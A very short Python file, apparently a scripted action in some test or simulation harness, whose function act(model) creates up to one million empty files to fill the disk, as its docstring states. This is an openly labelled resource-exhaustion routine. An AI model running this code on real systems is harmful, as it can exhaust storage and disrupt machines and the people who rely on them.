"""Fills the disk with as many empty files as it can."""


def act(model):
    for number in range(1_000_000):
        open(str(number), "w").close()
